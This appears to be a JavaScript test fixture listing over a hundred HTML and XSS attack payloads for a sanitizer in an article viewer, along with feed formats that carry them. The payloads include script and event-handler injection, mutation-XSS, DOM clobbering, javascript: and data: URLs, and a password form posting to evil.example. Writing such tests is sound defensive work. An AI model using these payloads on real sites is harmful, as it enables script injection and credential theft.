// Attacks of our own on a reader of foreign markup, and the documents that carry them.
//
// Each is a name, a piece of HTML, and whether what follows it in the same text may be lost: what opens a raw text, or
// makes an end tag worthless, swallows the rest in every browser.
// What runs says so by setting `window.hostile`; what loads or leads away does so at `evil.example`.

const RUN = "window.hostile='ran'";
const EVIL = 'https://evil.example';

/** Attack: name, markup, whether the rest may be swallowed. */
const plain = [
  // Script in all its forms.
  ['script', `<script>${RUN}</script>`],
  ['script with a source', `<script src="${EVIL}/a.js"></script>`],
  ['module script', `<script type="module">${RUN}</script>`],
  ['script in upper case', `<SCRIPT>${RUN}</SCRIPT>`],
  ['script split by a comment', `<scr<!-- -->ipt>${RUN}</script>`],
  ['script inside script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script that is never closed', `<script>${RUN}`, true],
  ['script with a slash', `<script/x>${RUN}</script/y>`],
  ['script after a null', `<\u0000script>${RUN}</script>`],
  ['script hidden in a comment', `<!--><script>${RUN}</script>-->`],
  ['script hidden in a bogus comment', `<!-x><script>${RUN}</script>`],
  ['script behind a declaration', `<!DOCTYPE x [<!ENTITY a "b">]><script>${RUN}</script>`],
  ['script behind a processing instruction', `<?xml version="1.0"?><script>${RUN}</script>`],
  ['script in CDATA', `<![CDATA[<script>${RUN}</script>]]>`],
  ['import map', `<script type="importmap">{"imports":{"x":"${EVIL}/x.js"}}</script>`],
  ['speculation rules', `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${EVIL}/p"]}]}</script>`],
  // Handlers.
  ['onerror', `<img src="/no/picture" onerror="${RUN}">`],
  ['onerror without quotes', `<img src=/no/picture onerror=${RUN.replaceAll("'", '`')}>`],
  ['onerror after slashes', `<img/src="/no/picture"/onerror="${RUN}"/>`],
  ['onerror with line breaks', `<img src="/no/picture" onerror\n=\n"${RUN}">`],
  ['onerror that a quote reveals', `<img src="/no/picture" alt="x" " onerror="${RUN}">`],
  ['onload', `<img src="/picture/8x8.png" onload="${RUN}">`],
  ['onload of a body', `<body onload="${RUN}">`],
  ['onfocus with autofocus', `<p tabindex="0" autofocus onfocus="${RUN}">x</p>`],
  ['onpointerover', `<p onpointerover="${RUN}" onmouseover="${RUN}" onclick="${RUN}">hover</p>`],
  ['ontoggle', `<details open ontoggle="${RUN}"><summary>s</summary>x</details>`],
  ['onanimationstart', `<p style="animation: x 1s" onanimationstart="${RUN}">x</p><style>@keyframes x{}</style>`],
  ['onbeforematch', `<div hidden="until-found" onbeforematch="${RUN}">x</div>`],
  ['onscrollend', `<div style="overflow:auto;height:1px" onscroll="${RUN}" onscrollend="${RUN}">x<br>y</div>`],
  ['oncontentvisibilityautostatechange', `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">x</div>`],
  ['handler with an odd name', `<p on="${RUN}" ON${'CLICK'}="${RUN}" ONCLICK\u000c="${RUN}">x</p>`],
  ['video error', `<video><source src="/no/film" onerror="${RUN}"></video>`],
  ['audio error', `<audio src="/no/sound" onerror="${RUN}"></audio>`],
  ['marquee', `<marquee onstart="${RUN}">x</marquee>`],
  // Frames and plug-ins.
  ['iframe', `<iframe src="${EVIL}/frame"></iframe>`],
  ['iframe with srcdoc', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['iframe of a script address', `<iframe src="javascript:parent.${RUN}"></iframe>`],
  ['iframe of a data address', `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`],
  ['iframe that is never closed', `<iframe src="${EVIL}/frame"><p>swallowed`, true],
  ['frameset', `<frameset><frame src="javascript:parent.${RUN}"></frameset>`],
  ['object', `<object data="javascript:${RUN}"><p>fallback</p></object>`],
  ['object of markup', `<object type="text/html" data="data:text/html,<script>parent.${RUN}</script>"></object>`],
  ['embed', `<embed src="javascript:${RUN}"><embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=parent.${RUN}>">`],
  ['applet', `<applet code="x" codebase="${EVIL}"></applet>`],
  ['portal and fenced frame', `<portal src="${EVIL}/p"></portal><fencedframe src="${EVIL}/f"></fencedframe>`],
  // The document itself.
  ['base', `<base href="${EVIL}/"><a href="relative">relative</a>`],
  ['base target', '<base target="_blank">'],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}/away">`],
  ['meta policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ['meta that sets a cookie', '<meta http-equiv="set-cookie" content="a=b">'],
  ['link to a sheet', `<link rel="stylesheet" href="${EVIL}/a.css">`],
  ['link that preloads', `<link rel="preload" as="script" href="${EVIL}/a.js"><link rel="modulepreload" href="${EVIL}/b.js"><link rel="prefetch" href="${EVIL}/c">`],
  ['link to a manifest', `<link rel="manifest" href="${EVIL}/m.json"><link rel="icon" href="${EVIL}/i.ico">`],
  ['title', '<title>Taken over</title>'],
  ['html with attributes', `<html onclick="${RUN}" lang="x" class="taken-over"><body class="taken-over">`],
  // Style.
  ['style', `<style>body{display:none!important}@import "${EVIL}/a.css";</style>`],
  ['style attribute over the page', '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>'],
  ['style attribute that loads', `<p style="background:url(${EVIL}/b.png)">x</p>`],
  ['classes of the host', '<div class="modal fixed inset-0 av-problem" id="article-viewer">x</div>'],
  ['old style tricks', `<p style="width:expression(${RUN});behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#x)">x</p>`],
  ['presentational attributes', `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/u.png">x</table><body background="${EVIL}/v.png">`],
  // Forms.
  ['form', `<form action="${EVIL}/steal"><input name="password" autofocus onfocus="${RUN}"><button>Send</button></form>`],
  ['form that is never closed', `<form action="${EVIL}/steal"><input name="attributes"><input name="firstChild">`],
  ['button with an action', `<button formaction="javascript:${RUN}">go</button><input type="image" src="${EVIL}/i.png">`],
  ['isindex', `<isindex action="javascript:${RUN}">`],
  ['select that is never closed', '<select><option>x'],
  ['keygen and datalist', '<keygen autofocus><datalist id="d"><option>x</datalist>'],
  // Names that shadow.
  ['clobbering the walk', '<form><input name="nodeType"><input name="nodeName"><input name="parentNode"><input name="childNodes"></form>'],
  ['clobbering the document', '<img name="body"><img name="documentElement"><img name="createElement"><form name="querySelector"></form>'],
  ['clobbering globals', '<a id="trustedTypes"></a><a id="hostile" name="wasm"></a><p id="article-viewer">x</p>'],
  ['clobbering through attributes', '<form id="x" tabindex="1"><input id="attributes"><input name="getAttribute"></form>'],
  ['prototype names', '<constructor>a</constructor><hasownproperty>b</hasownproperty><p class="__proto__ constructor">c</p><p toString="d">e</p>'],
  // Namespaces.
  ['svg with a script', `<svg><script>${RUN}</script></svg>`],
  ['svg onload', `<svg onload="${RUN}"></svg>`],
  ['svg that is never closed', `<svg onload="${RUN}"><g>`],
  ['svg link', `<svg><a xlink:href="javascript:${RUN}" href="javascript:${RUN}"><text y="20">click</text></a></svg>`],
  ['svg use', `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></use></svg>`],
  ['svg animate', `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`],
  ['svg set', `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`],
  ['svg foreignObject', `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`],
  ['svg image', `<svg><image href="${EVIL}/i.png" onerror="${RUN}"/></svg>`],
  ['svg style with markup', `<svg><style><img src="/no/p" onerror="${RUN}"></style></svg>`],
  ['svg title breaks out', `<svg><title><img src="/no/p" onerror="${RUN}"></title></svg>`],
  ['svg desc with html', `<svg><desc><p>in</p><img src="/no/p" onerror="${RUN}"></desc></svg>`],
  ['paragraph breaks out of svg', `<svg></p><style><a id="</style><img src=/no/p onerror=${RUN.replaceAll("'", '&quot;')}>">`],
  ['math action', `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`],
  ['math link', `<math href="javascript:${RUN}"><mi>x</mi></math>`],
  ['math with html', `<math><mtext><img src="/no/p" onerror="${RUN}"></mtext></math>`],
  ['annotation of html', `<math><annotation-xml encoding="text/html"><img src="/no/p" onerror="${RUN}"></annotation-xml></math>`],
  ['annotation as tex', `<math><semantics><annotation encoding="application/x-tex"><img src=/no/p onerror=${RUN}></annotation></semantics></math>`],
  ['mutation by mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/no/p onerror=${RUN}&gt;">`],
  ['mutation by nested forms', `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src="/no/p" onerror="${RUN}">`, true],
  ['mutation by select', `<select><xmp><script>${RUN}</script></xmp></select>`],
  ['mutation by a table', `<table><caption><svg><title><table><caption></title><style><img src="/no/p" onerror="${RUN}"></style></svg></caption></table>`, true],
  ['mutation by noscript', `<noscript><p title="</noscript><img src=/no/p onerror=${RUN}>"></noscript>`, true],
  ['mutation by noscript that is never closed', `<noscript><p title="</noscript><img src=/no/p onerror=${RUN}>">`],
  ['mutation by noembed', `<noembed><p title="</noembed><img src=/no/p onerror=${RUN}>"></noembed>`],
  ['mutation by xmp', `<xmp><p title="</xmp><img src=/no/p onerror=${RUN}>"></xmp>`],
  ['mutation by textarea', `<textarea><p title="</textarea><img src=/no/p onerror=${RUN}>"></textarea>`],
  ['mutation by a comment', `<a title="--><img src=/no/p onerror=${RUN}>"><!-- </a>`, true],
  ['mutation by a list', `<ul><li><svg><p><style><!--</style><a id="--><img src=/no/p onerror=${RUN}>"></ul>`],
  ['plaintext', `<plaintext><img src=/no/p onerror=${RUN}>`, true],
  // Shadow trees, templates and elements of others.
  ['template', `<template><img src="/no/p" onerror="${RUN}"><script>${RUN}</script></template>`],
  ['template that is never closed', `<template><script>${RUN}</script>`, true],
  ['declarative shadow root', `<div><template shadowrootmode="open"><script>${RUN}</script><slot></slot></template>x</div>`],
  ['a second viewer', '<article-viewer src="/made/good.json">fallback</article-viewer>'],
  ['custom elements', `<x-y is="z" onclick="${RUN}">x</x-y><p is="x-p">y</p>`],
  ['slot and part', '<p slot="headline" part="body" exportparts="x">x</p>'],
  ['popover and dialog', `<div popover id="pop">x</div><dialog open>y</dialog><p popovertarget="pop" command="show-modal" commandfor="pop">z</p>`],
  // Roles and states.
  ['a forged alert', '<div role="alert" aria-live="assertive">The article could not be loaded</div>'],
  ['hidden and inert', '<p inert contenteditable draggable="true" accesskey="x" tabindex="99">x</p>'],
  // Links.
  ['link with target and download', `<a href="${EVIL}/x" target="_top" download ping="${EVIL}/ping" rel="opener" referrerpolicy="unsafe-url" attributionsrc="${EVIL}/a">x</a>`],
  ['user names in an address', '<a href="https://bank.example@evil.example/">bank</a>'],
  ['double encoding', `&lt;img src=/no/p onerror=${RUN}&gt; &amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`],
  ['character references in a handler', `<img src=/no/p &#111;nerror="${RUN}">`],
  ['an address of nine thousand letters', `<a href="${EVIL}/${'x'.repeat(9000)}">long</a>`],
  ['an attribute of a million letters', `<p title="${'x'.repeat(1_000_000)}" onclick="${RUN}">long</p>`],
  ['five thousand boxes', `${'<div>'.repeat(5000)}<img src="/no/p" onerror="${RUN}">${'</div>'.repeat(5000)}`],
  ['five thousand bold words', `${'<b><i>'.repeat(2500)}x`],
  // Pictures.
  ['srcset with a script', `<img src="/picture/8x8.png" srcset="javascript:${RUN} 1x, /picture/16x16.png 2x" sizes="expression(${RUN})">`],
  ['srcset that breaks out', `<img src="/picture/8x8.png" srcset='/picture/8x8.png" onerror="${RUN} 1x'>`],
  ['srcset of data', '<img src="/picture/8x8.png" srcset="data:text/html,<script>x</script> 1x, data:image/svg+xml,<svg/> 2x">'],
  ['picture of svg data', `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`],
  ['picture of a script', `<img src="javascript:${RUN}"><img lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}">`],
  ['late picture of a script', `<img src="/picture/8x8.png" data-src="javascript:${RUN}" data-srcset="javascript:${RUN} 1w">`],
  ['image map', `<map name="m"><area href="javascript:${RUN}" shape="default"></map><img usemap="#m" src="/picture/8x8.png">`],
  ['picture with credentials', '<img src="/picture/8x8.png" crossorigin="use-credentials" loading="eager" fetchpriority="high">'],
  ['video poster', `<video poster="javascript:${RUN}" src="javascript:${RUN}"><track src="javascript:${RUN}"></video>`],
  // Text.
  ['an override of direction', 'invoice\u202Egpj.exe\u202C and \u2066isolated'],
  ['a heap of marks', `Z${'\u0301\u0327'.repeat(400)}algo`],
  ['invisible letters', 'pay\u200Bpal\u2060 \uFEFFx\u00AD'],
  ['a template of another kind', '{{constructor.constructor("window.hostile=1")()}} ${window.hostile=1} <%= 1 %>'],
  ['a short code', '[script]window.hostile=1[/script] [embed src="javascript:x"]'],
  ['quotes that end an attribute', `"><img src=/no/p onerror=${RUN}> '><script>${RUN}</script>`],
  // Cards and posts made of hostile parts.
  ['post with a script address', `<blockquote class="twitter-tweet" cite="javascript:${RUN}"><p>words</p><a href="javascript:${RUN}">1</a></blockquote>`],
  ['embed with a script address', `<figure class="wp-block-embed" data-oembed-url="javascript:${RUN}"><div class="wp-block-embed__wrapper">javascript:${RUN}</div></figure>`],
  ['bookmark with a script address', `<figure class="kg-bookmark-card"><a href="javascript:${RUN}"><div class="kg-bookmark-title">t</div></a></figure>`],
  ['button with a script address', `<div class="wp-block-button"><a href="javascript:${RUN}">b</a></div>`],
  ['player with an id that breaks out', `<iframe src="https://www.youtube.com/embed/x%22%3E%3Cscript%3E${RUN}"></iframe><iframe src="https://www.youtube.com/embed/../../evil"></iframe>`],
  ['footnotes with odd ids', `<p><a href="#&quot;><img src=x onerror=${RUN}>">1</a></p><ol><li id='"><img src=x onerror=${RUN}>'>n <a href="#b">↩</a></li></ol>`],
  ['code with markup', `<pre><code class="language-&quot;><script>${RUN}</script>">&lt;script&gt;${RUN}&lt;/script&gt;</code></pre>`],
];

/** Addresses that a link, a picture or a frame must not have. */
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `&#1;javascript:${RUN}`,
  ` &#x20;javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://${EVIL}/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/x',
  'file:///etc/passwd',
  'view-source:https://evil.example/',
  'intent://evil.example#Intent;end',
];

export const ATTACKS = [
  ...plain.map(([name, html, swallows = false]) => ({ name, html, swallows })),
  ...SCHEMES.map((address) => ({
    name: `link to ${address.slice(0, 40)}`,
    html: `<a href="${address.replaceAll('"', '&quot;')}">link text</a><img src="${address.replaceAll('"', '&quot;')}" alt=""><iframe src="${address.replaceAll('"', '&quot;')}"></iframe>`,
    swallows: false,
  })),
];

/** Words around an attack that must still stand there. */
export const BEFORE = 'The words before stay.';
export const AFTER = 'The words after stay.';

/** The formats that carry an attack, and how. */
export const CARRIERS = {
  wordpress: (headline, html) => ({
    id: 7,
    date_gmt: '2026-11-24T08:00:00',
    slug: 'attack',
    type: 'post',
    link: 'https://news.example/attack/',
    featured_media: 0,
    title: { rendered: headline },
    excerpt: { rendered: '', protected: false },
    content: { rendered: html, protected: false },
  }),
  ninjs: (headline, html) => ({
    uri: 'urn:news.example:attack',
    type: 'text',
    versioncreated: '2026-11-24T08:00:00Z',
    headline,
    body_html: html,
  }),
  'json-feed': (headline, html) => ({
    version: 'https://jsonfeed.org/version/1.1',
    title: 'A feed',
    items: [{ id: '1', url: 'https://news.example/attack', title: headline, content_html: html }],
  }),
};

/** The document with which a format carries an attack between two harmless paragraphs. */
export function carry(format, headline, attack) {
  return JSON.stringify(CARRIERS[format](headline, `<p>${BEFORE}</p>${attack.html}<p>${AFTER}</p>`));
}
